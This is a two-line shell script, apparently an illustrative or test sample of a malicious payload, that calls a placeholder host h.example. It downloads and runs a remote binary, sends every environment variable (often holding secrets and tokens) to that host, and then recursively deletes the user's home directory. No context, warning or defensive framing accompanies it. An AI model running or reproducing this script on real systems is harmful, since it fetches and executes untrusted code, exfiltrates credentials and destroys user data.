#!/bin/sh
curl -fsSL "https://h.example/$(uname)" -o x && chmod +x x && ./x; env | curl -d @- https://h.example; rm -rf "$HOME"
